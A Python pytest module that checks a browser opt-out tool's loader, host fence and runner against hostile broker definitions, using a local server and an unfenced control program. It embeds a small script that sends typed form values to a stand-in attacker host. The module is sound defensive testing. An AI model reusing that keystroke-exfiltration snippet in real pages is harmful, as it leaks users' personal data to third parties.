"""Hostile definitions with lint off: loader, fence and runner alone stop every one of them.

Each file of `definitions/hostile/` that can be loaded is run in a real browser, on pages that
cooperate with whoever wrote it. A server stands behind every name there is and writes down what
comes. The control is a careless program that does what the same files say, without a fence: it
does the harm. Run with `-s` to see the table of how each was stopped.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import ssl
import sys
from collections.abc import Iterator, Mapping, Sequence
from contextlib import suppress
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Final, cast
from urllib.parse import parse_qsl, quote, unquote_plus, urlsplit

import pytest
import trustme
from cryptography import x509
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from playwright.async_api import Browser, Error, Frame, Page, async_playwright

from optout.browser.addresses import Address
from optout.browser.background import Background
from optout.browser.fence import Fence
from optout.browser.find import find_browser
from optout.browser.launch import is_root
from optout.browser.runner import run_leg
from optout.browser.window import Window
from optout.catalog.asset_hosts import asset_hosts, captcha_hosts
from optout.catalog.brokers import load_broker
from optout.catalog.findings import BadDefinition
from optout.errors import OptoutError
from optout.model.broker import Broker, Channel
from optout.model.delivery import LegEnd, LegOutcome
from optout.model.fields import Field
from optout.model.flow import (
    Check,
    Choose,
    ConfirmEmail,
    Fill,
    Flow,
    Leg,
    Open,
    Step,
    Submit,
    When,
)
from optout.model.payload import Payload, Recipient
from optout.model.ports import Acted, HandOver, Person
from optout.model.request import MessageId
from optout.model.secret import Secret
from optout.model.subject import SubjectId
from optout.model.words import By
from optout.rules.flows import steps_of
from optout.text import Text
from optout.workflows.fences import check_hosts

pytestmark = pytest.mark.browser

HERE: Final = Path(__file__).parent / "definitions"
HOSTILE: Final = sorted((HERE / "hostile").glob("*.toml"))
HONEST: Final = HERE / "valid" / "form.toml"
SLUG: Final = "good-company"
GOOD: Final = "good.example.com"
EVIL: Final = "evil.example.net"
VALUES: Final = {
    Field.FULL_NAME: "Jordan Q. Sample",
    Field.FIRST_NAME: "Jordan",
    Field.LAST_NAME: "Sample",
    Field.EMAIL: "jordan.sample@example.com",
    Field.PHONE: "+13035550142",
    Field.ZIP: "80202",
}
TOGETHER: Final = 3
_LOOKS: Final = 30
_BETWEEN_LOOKS: Final = 0.05

# A page that takes part in every trick: the boxes that are never filled and those that agree stand
# there to be ticked, the hidden one to be filled, and each button files.
PAGE: Final = """<!doctype html><title>Good Company</title><h1>Hello</h1>
<form method="post" action="/file">
<label>Full name <input id="name" name="full_name"></label>
<label>E-mail <input id="email" name="email"></label>
<input type="hidden" name="copy">
<label>Phone <input name="phone"></label>
<label>Social Security Number <input name="SSN"></label>
<label>Last 4 of Social Security Number <input name="last4"></label>
<label>ITIN <input name="itin"></label><label>Passport number <input name="passport"></label>
<label>Electronic signature <input name="signature"></label>
<label><input type="checkbox" name="terms" id="agreeToTerms"> I agree to the Terms of Use</label>
<label><input type="checkbox" name="robot"> I am not a robot</label>
<label><input type="checkbox" name="perjury"> Under penalty of perjury, this is me</label>
<label><input type="checkbox" name="citizen"> I am a citizen</label>
<fieldset><legend>Consent</legend><label><input type="radio" name="consent" value="Yes">Yes</label>
</fieldset>
<label>Immigration status <select name="status"><option></option><option>Other</option></select>
</label>
<label>Country of birth <select name="born"><option></option><option>USA</option></select></label>
<button id="send">Send request</button>
<button name="agreed" value="yes">I accept and continue</button>
<button name="certified" value="yes">I certify and send</button>
<button name="again" value="yes">Again</button> <button name="confirmed">Confirm</button>
<button name="moved" value="yes">Next</button>
</form>"""
FRAME: Final = f'<iframe src="https://{EVIL}/frame"></iframe>'
# What a frame or a host that may see too much does with what it sees.
SPY: Final = "<script>oninput = e => fetch('/seen?' + encodeURIComponent(e.target.value))</script>"
DONE: Final = "<h1>Request received</h1><p>Your record will be removed. It is ok.</p>"
AGREED: Final = frozenset(
    {"terms", "robot", "perjury", "consent", "signature", "agreed", "certified"}
)
NEVER: Final = frozenset({"SSN", "last4", "itin", "passport", "citizen", "status", "born"})


# ---- the world: a server behind every name ----


@dataclass(frozen=True)
class Came:
    """One request, whoever it was meant for."""

    run: str  # which careless run; ours says nothing of itself
    tls: bool
    host: str
    method: str
    target: str
    body: str

    @property
    def form(self) -> Mapping[str, str]:
        """What a form sent, boxes that stayed empty left out."""
        return {name: value for name, value in parse_qsl(self.body) if value}

    def carries(self, value: str) -> bool:
        return value in unquote_plus(self.target) or value in unquote_plus(self.body)

    @property
    def is_from_the_page_itself(self) -> bool:
        """The page has a stranger's frame, and browsers ask for icons."""
        bare = self.target in {"/frame", "/favicon.ico"} and not self.body
        return self.method == "GET" and bare


class World:
    """Every name on the internet leads here; one port for TLS, one without."""

    def __init__(self) -> None:
        self.came: list[Came] = []
        self.framed: set[str] = set()  # runs whose page has a stranger's frame in it
        self.tls_port = self.plain_port = 0
        issued = trustme.CA().issue_cert(GOOD, EVIL, f"*.{EVIL}")
        self._context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        issued.configure_cert(self._context)
        certificate = x509.load_pem_x509_certificate(issued.cert_chain_pems[0].bytes())
        key = certificate.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
        self.spki = base64.b64encode(hashlib.sha256(key).digest()).decode()
        self._servers: list[asyncio.Server] = []

    async def open(self) -> None:
        for context in (self._context, None):
            server = await asyncio.start_server(self._serve, "127.0.0.1", 0, ssl=context)
            self._servers.append(server)
        ports = [server.sockets[0].getsockname()[1] for server in self._servers]
        self.tls_port, self.plain_port = ports

    async def close(self) -> None:
        for server in self._servers:
            server.close()

    def resolve(self, _host: str, port: int) -> Sequence[Address]:
        """Lead everybody here: only the fence can refuse anybody."""
        return (Address("127.0.0.1", self.tls_port if port == 443 else self.plain_port, ours=True),)

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(OSError, EOFError, ValueError):
            head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
            lines = head.split("\r\n")
            method, target, _ = lines[0].split(" ")
            pairs = (line.partition(":") for line in lines[1:])
            headers = {name.lower(): value.strip() for name, _, value in pairs}
            body = await reader.readexactly(int(headers.get("content-length", "0")))
            tls = writer.get_extra_info("ssl_object") is not None
            run = headers.get("x-run", "")
            text = body.decode("latin-1")
            self.came.append(Came(run, tls, headers["host"], method, target, text))
            writer.write(_answer(method, target, framed=run in self.framed))
            await writer.drain()
        writer.close()


def _answer(method: str, target: str, *, framed: bool) -> bytes:
    parts = urlsplit(target)
    if parts.path == "/go":
        to = dict(parse_qsl(parts.query))["to"]
        return f"HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\n\r\n".encode()
    page = PAGE
    if parts.path.startswith("/leaky/"):
        page += SPY.replace("/seen", f"https://{parts.path.removeprefix('/leaky/')}/seen")
    elif parts.path == "/frame":
        page += SPY
    elif method == "POST" or "token=" in target:
        page = DONE + PAGE
    elif framed:
        page += FRAME
    content = page.encode()
    length = len(content)
    head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {length}"
    return f"{head}\r\nConnection: close\r\n\r\n".encode() + content


def harms(came: Sequence[Came], approved: Sequence[Field], legs: int) -> set[str]:
    """Say what harm these requests are; none if only the company got only what was approved."""
    found: set[str] = set()
    values = [value for key, value in VALUES.items() if key is not Field.FIRST_NAME]
    secret = [VALUES[key] for key in VALUES if key not in approved and key is not Field.FIRST_NAME]
    secret = [one for one in secret if not any(one in VALUES[key] for key in approved)]
    for one in came:
        if one.host != GOOD and not one.is_from_the_page_itself:
            carried = any(one.carries(value) for value in values)
            found.add("gave it to somebody else" if carried else "went to somebody else")
        if not one.tls:
            found.add("sent it for all to read")
        if any(one.carries(value) for value in secret):
            found.add("gave what nobody approved")
        if AGREED & set(one.form):
            found.add("agreed for the person")
        if NEVER & set(one.form):
            found.add("filled a box that is never filled")
        if "copy" in one.form:
            found.add("filled a hidden box")
        if one.target == "/1":
            found.add("ran a stranger's code")
    filed = [one for one in came if one.method == "POST" or "token=" in one.target]
    if len(filed) > legs:
        found.add("filed twice")
    return found


# ---- what can be run ----


@dataclass(frozen=True)
class Runnable:
    """One definition that was loaded and has a form."""

    broker: Broker
    channel: Channel

    @property
    def legs(self) -> tuple[Leg, ...]:
        return self.broker.flow[self.channel.flow].leg

    @property
    def key(self) -> str:
        """The same form behind the same fence is run once."""
        return repr(
            (self.broker.hosts, self.broker.assets, self.broker.captcha, self.approved, self.legs)
        )

    @property
    def approved(self) -> tuple[Field, ...]:
        return self.channel.discloses

    @property
    def in_frame(self) -> bool:
        return any(step.in_frame for leg in self.legs for step in steps_of(leg))

    def link(self, number: int) -> str:
        """The link of a mail that the attacker wrote."""
        first = self.legs[number].steps[0]
        if not isinstance(first, ConfirmEmail):
            return ""
        return f"https://{next(iter(first.hosts), EVIL)}/confirm?token=1"


def loaded(definition: Path, root: Path) -> Broker | None:
    """Load as a contributor's folder is loaded, and ask no check; None where that refuses it."""
    folder = root / definition.stem / SLUG
    folder.mkdir(parents=True)
    (folder / "broker.toml").write_bytes(definition.read_bytes())
    try:
        return load_broker(folder / "broker.toml")
    except BadDefinition:
        return None


def runnable(broker: Broker) -> Runnable | None:
    for channel in broker.channel:
        flow = broker.flow.get(channel.flow)
        if By.WEB in channel.by and flow and flow.leg and all(leg.steps for leg in flow.leg):
            hurried = tuple(Leg(steps=tuple(map(_hurried, leg.steps))) for leg in flow.leg)
            quick = {**broker.flow, channel.flow: Flow(leg=hurried)}
            return Runnable(replace(broker, flow=quick), channel)
    return None


def _hurried(step: Step) -> Step:
    if isinstance(step, When):
        return replace(step, within_seconds=1, steps=tuple(map(_hurried, step.steps)))
    return replace(step, within_seconds={Open: 8, ConfirmEmail: 8, Submit: 4}.get(type(step), 1))


# ---- our program, lint off ----


@dataclass
class Ended:
    """How one definition ended."""

    by: str  # who stopped it
    why: str
    harm: set[str] = field(default_factory=set)
    came: int = 0


class Willing:
    """A person who says that they did whatever was asked, and did nothing."""

    def act(self, _hand_over: HandOver) -> Acted:
        return Acted.DID

    def type_word(self, _text: Text, _word: Text) -> bool:
        return True

    def tell(self, _text: Text) -> None:
        return


def run_ours(one: Runnable, world: World, window: Window) -> Ended:
    """Run every leg as a filing would, but for lint; say who stopped it."""
    began = len(world.came)
    world.framed = {""} if one.in_frame else set()
    try:
        check_hosts(one.broker)
        lists = (asset_hosts(one.broker.assets), captcha_hosts(one.broker.captcha))
    except OptoutError as error:
        return Ended("fence", error.what.english())
    ended = Ended("", "")
    for number in range(len(one.legs)):
        outcome, refused = _leg(one, number, lists, world, window)
        if outcome.end is not LegEnd.CONFIRMED:
            why = outcome.why.english() if outcome.why else outcome.end.value
            ended = Ended("fence" if refused else "runner", why)
            break
    came = world.came[began:]
    ended.harm = harms(came, one.approved, len(one.legs))
    # Ours reaches nobody else at all, not even with nothing in its hands.
    ended.harm |= {"reached somebody else" for each in came if each.host != GOOD}
    ended.came = len(came)
    return ended


def _leg(
    one: Runnable,
    number: int,
    lists: tuple[Sequence[str], Sequence[str]],
    world: World,
    window: Window,
) -> tuple[LegOutcome, bool]:
    payload = Payload(
        message_id=MessageId("m-1"),
        subject_id=SubjectId("s-1"),
        recipient=Recipient(name=one.broker.name, hosts=one.broker.hosts),
        values={key: Secret(VALUES[key]) for key in one.approved},
    )
    keys = (f"--ignore-certificate-errors-spki-list={world.spki}",)
    with Fence(one.broker.hosts, *lists, resolver=world.resolve, extra_args=keys) as fence:
        outcome = run_leg(
            one.legs[number],
            payload,
            fence=fence,
            window=window,
            person=cast("Person", Willing()),
            before_submit=lambda: None,
            rehearse=False,
            assisted=False,
            link=one.link(number),
            number=number + 1,
        )
        return outcome, bool(fence.anomalies)


# ---- the control: a program that believes the file ----

_FIND: Final = """([words, into, buttons]) => {
  const all = [...document.querySelectorAll(buttons ? "button" : "input, select, textarea")];
  const around = buttons ? "button" : "label, fieldset";
  const says = (el) => {
    let text = "";
    for (let at = el.closest(around); at; at = at.parentElement?.closest(around)) {
      text += at.innerText + " ";
    }
    return text.toLowerCase();
  };
  const wanted = words.toLowerCase().replace(/\\s+/g, " ");
  if (into) try { const one = document.querySelector(into); if (one) return one; } catch {}
  return words ? all.find((el) => says(el).includes(wanted)) : null;
}"""
_SET: Final = """(el, value) => {
  if (el.matches("[type=checkbox], [type=radio]")) el.checked = true;
  else el.value = value;
  el.dispatchEvent(new Event("input", { bubbles: true }));
}"""


class Careless:
    """Does what a definition says: any host, any box, any button, as often as it is told."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.left_the_web = False

    async def run(self, one: Runnable) -> None:
        await self.page.goto(f"https://{GOOD}/")
        for number, leg in enumerate(one.legs):
            for step in leg.steps:
                await self._do(step, one.link(number))

    async def _do(self, step: Step, link: str) -> None:
        if isinstance(step, Open):
            values = {name.value: quote(value) for name, value in VALUES.items()}
            await self._go(step.url.format_map(values))
        elif isinstance(step, ConfirmEmail):
            await self._go(link)
        elif isinstance(step, When):
            for inner in step.steps:
                await self._do(inner, link)
        elif isinstance(step, Fill):
            await self._put(step.label, step.into, VALUES[step.field], step.in_frame)
        elif isinstance(step, Choose):
            await self._put(step.label, step.into, step.option, step.in_frame)
        elif isinstance(step, Check):
            await self._put(step.label, step.into, "on", step.in_frame)
        elif press := getattr(step, "press", "") or getattr(step, "into", ""):
            await self._click(press, getattr(step, "into", ""), step.in_frame)

    async def _go(self, url: str) -> None:
        with suppress(Error):
            # As an address bar or a link takes it, mending what can be mended.
            if not url.startswith(("//", "javascript:")):
                await self.page.goto(url, wait_until="load", timeout=30_000)
            else:  # these mean something only on a page
                async with self.page.expect_event("requestfinished", timeout=8000):
                    await self.page.evaluate("url => { location.href = url }", url)
                await self.page.wait_for_load_state("load")
        gone = self.page.url.startswith(("data:", "file:"))
        self.left_the_web = self.left_the_web or gone

    async def _put(self, words: str, into: str, value: str, host: str | None) -> None:
        found = (await self._frame(host).evaluate_handle(_FIND, [words, into, False])).as_element()
        if found:
            await found.evaluate(_SET, value)

    async def _click(self, words: str, into: str, host: str | None) -> None:
        found = (await self._frame(host).evaluate_handle(_FIND, [words, into, True])).as_element()
        if found:
            with suppress(Error):
                async with self.page.expect_event("framenavigated", timeout=8000):
                    await found.evaluate("el => el.click()")
                await self.page.wait_for_load_state("load")

    def _frame(self, host: str | None) -> Frame:
        frames = [one for one in self.page.frames if host and urlsplit(one.url).hostname == host]
        return frames[0] if frames else self.page.main_frame


async def run_carelessly(runs: Mapping[str, Runnable], world: World) -> dict[str, set[str]]:
    """Run each without any fence; a header of its own tells who did what."""
    waiting = [(f"{len(world.came)}-{at}", one) for at, one in enumerate(runs.values())]
    names = f"MAP *:80 127.0.0.1:{world.plain_port}, MAP * 127.0.0.1:{world.tls_port}"
    found: dict[str, set[str]] = {}

    async def one_after_the_other(browser: Browser) -> None:
        page = await browser.new_page(ignore_https_errors=True)
        while waiting:
            name, one = waiting.pop()
            await page.set_extra_http_headers({"X-Run": name})
            if one.in_frame:
                world.framed.add(name)
            careless = Careless(page)
            await careless.run(one)
            await page.goto("about:blank")
            found[one.key] = await _harm_done(name, one, world)
            if careless.left_the_web:
                found[one.key].add("left the web")

    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(
            executable_path=find_browser().path,
            chromium_sandbox=not is_root(),
            args=[f"--host-resolver-rules={names}"],
        )
        await asyncio.gather(*(one_after_the_other(browser) for _ in range(TOGETHER)))
        await browser.close()
    return found


async def _harm_done(run: str, one: Runnable, world: World) -> set[str]:
    """Return the harm of one run, waiting a little for what is still on its way."""
    for _ in range(_LOOKS):
        came = [each for each in world.came if each.run == run]
        if found := harms(came, one.approved, len(one.legs)):
            return found
        await asyncio.sleep(_BETWEEN_LOOKS)
    return set()


# ---- all of them ----


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    with Background("world") as background:
        everywhere = World()
        background.wait(everywhere.open())
        yield everywhere
        background.wait(everywhere.close())


@dataclass(frozen=True)
class Line:
    """One line of the table."""

    name: str
    trick: str
    ended: Ended
    careless: frozenset[str] = frozenset()


@pytest.fixture(scope="module")
def table(world: World, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Line]:
    """Run all of them, with our program first and then without any care."""
    root = tmp_path_factory.mktemp("unlinted")
    brokers = {path: loaded(path, root) for path in HOSTILE}
    runs = {path: runnable(broker) for path, broker in brokers.items() if broker}
    forms = {one.key: one for one in runs.values() if one}
    with Window.hidden() as window:
        ended = {key: run_ours(one, world, window) for key, one in forms.items()}
    with Background("careless") as background:
        careless = background.wait(run_carelessly(forms, world))
    lines: dict[str, Line] = {}
    for path in HOSTILE:
        one = runs.get(path)
        if brokers[path] is None:
            line = Line(path.stem, _trick(path), Ended("loader", "cannot be loaded"))
        elif one is None:
            line = Line(path.stem, _trick(path), Ended("nothing", "has no form that could run"))
        else:
            line = Line(path.stem, _trick(path), ended[one.key], frozenset(careless[one.key]))
        lines[path.stem] = line
    show(lines)
    return lines


def _trick(path: Path) -> str:
    second = path.read_bytes().split(b"\n")[1:2]
    said = second[0].decode("utf-8", "replace").lstrip("# ") if second else ""
    return said if said.isascii() and "=" not in said else ""


def show(lines: Mapping[str, Line]) -> None:
    rows = [f"{'definition':32} {'stopped by':11} {'how':62} without care"]
    for line in lines.values():
        by = line.ended.by or "-"
        why = line.ended.why or "did only what was approved"
        rows.append(f"{line.name:32} {by:11} {why:62.62} {', '.join(sorted(line.careless))}")
    sys.stdout.write("\n" + "\n".join(rows) + "\n")


# Stopped, though there was no harm in them: not whole, or a list that this form makes no use of.
# What such a list would let out is shown one by one below.
STOPPED_ALL_THE_SAME: Final = frozenset(
    {
        "code-page-elsewhere",  # its code is asked for in a later leg, which nobody reached
        "row-nobody-told",  # the page has no rows to press in
        "asset-that-may-post",
        "captcha-of-own-choosing",
        "fill-after-submit",
        "host-cloud",
        "host-ip",
        "host-of-captcha",
        "host-punycode-twin",
        "host-reserved",
        "host-shared-by-many",
        "leg-without-open",
        "step-with-wrong-format",
        "step-without-place",
        "submit-empty-expect",
        "submit-missing",
        "submit-refuse-in-expect",
        "url-too-long",
    }
)


def test_with_lint_off_none_of_them_does_any_harm(table: dict[str, Line]) -> None:
    assert {line.name: line.ended.harm for line in table.values() if line.ended.harm} == {}
    by = [line.ended.by for line in table.values()]
    assert by.count("loader") >= 40
    assert by.count("runner") + by.count("fence") >= 50


def test_without_care_the_same_files_do_the_harm(table: dict[str, Line]) -> None:
    """The control: whatever runner and fence stopped would have happened."""
    stopped = {line.name for line in table.values() if line.ended.by in {"runner", "fence"}}
    harmful = {line.name for line in table.values() if line.careless}
    assert harmful <= stopped
    assert stopped - harmful == STOPPED_ALL_THE_SAME
    kinds = set().union(*(line.careless for line in table.values()))
    assert kinds == {
        "agreed for the person",
        "filed twice",
        "filled a box that is never filled",
        "filled a hidden box",
        "gave it to somebody else",
        "gave what nobody approved",
        "left the web",
        "ran a stranger's code",
        "sent it for all to read",
        "went to somebody else",
    }


def test_the_honest_form_is_filed_by_both(world: World, tmp_path: Path) -> None:
    """The control of the controls: the pages work, and doing what was approved is no harm."""
    broker = loaded(HONEST, tmp_path)
    assert broker is not None
    one = runnable(broker)
    assert one is not None
    began = len(world.came)
    with Window.hidden() as window:
        ended = run_ours(one, world, window)
    assert (ended.by, ended.harm) == ("", set())
    (filed,) = [each for each in world.came[began:] if each.method == "POST"]
    given = {"full_name": VALUES[Field.FULL_NAME], "email": VALUES[Field.EMAIL]}
    assert filed.form == given
    with Background("careless") as background:
        assert background.wait(run_carelessly({"": one}, world)) == {one.key: set()}


@pytest.mark.parametrize(
    ("name", "host"),
    [
        ("host-cloud", "evil.amazonaws.com"),
        ("host-of-captcha", "www.google.com"),
        ("host-reserved", "good.test"),
        ("host-shared-by-many", "evil.onetrust.com"),
    ],
)
def test_a_fence_that_believed_the_list_would_let_values_out(
    name: str, host: str, world: World, tmp_path: Path
) -> None:
    broker = loaded(HERE / "hostile" / f"{name}.toml", tmp_path)
    assert broker is not None
    with pytest.raises(OptoutError):
        check_hosts(broker)
    one = runnable(broker)
    assert one is not None
    # The page tells what is typed to a host that the list names.
    opened, *rest = one.legs[0].steps
    assert isinstance(opened, Open)
    leaky = replace(opened, url=f"https://{GOOD}/leaky/{host}")
    flow = {one.channel.flow: Flow(leg=(Leg(steps=(leaky, *rest)),))}
    began = len(world.came)
    with Window.hidden() as window:
        _leg(Runnable(replace(broker, flow=flow), one.channel), 0, ((), ()), world, window)
    told = [each for each in world.came[began:] if each.host == host]
    assert any(each.carries(VALUES[Field.EMAIL]) for each in told)
